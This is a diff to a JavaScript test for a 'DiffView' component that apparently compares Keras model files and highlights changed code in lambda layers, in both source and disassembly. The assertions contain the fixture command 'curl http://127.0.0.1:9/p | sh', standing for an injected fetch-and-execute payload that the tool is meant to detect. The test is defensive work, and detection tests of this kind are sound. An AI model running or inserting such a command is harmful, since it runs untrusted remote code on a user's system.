@@ -15,6 +15,13 @@ describe('DiffView', () => {
     expect(html).toContain('&lt;lambda&gt; const[2]: &#x27;echo a&#x27; → &#x27;curl http://127.0.0.1:9/p | sh&#x27;');
     expect(html.match(/aria-label="Source, [ab]"/g)).toEqual(['aria-label="Source, a"', 'aria-label="Source, b"']);
     expect(html).toContain('The code a load runs differs');
+    // The changed line is marked on both sides, in the source and in the disassembly.
+    const marked = [...html.matchAll(/<span class="line changed" data-changed="true">▶ ([^<]*)/g)].map((m) => m[1]);
+    expect(marked).toHaveLength(4);
+    expect(marked.filter((l) => /LOAD_CONST/.test(l)).map((l) => l.replace(/^.*LOAD_CONST\s+/, '').trim())).toEqual([
+      '2 (&#x27;echo a&#x27;)',
+      '2 (&#x27;curl http://127.0.0.1:9/p | sh&#x27;)',
+    ]);
   });
   it('code-carrying differences come before the rest', async () => {
     const html = await render(fx('func_lambda_benign.keras'), dfx('lambda_inserted.keras'));
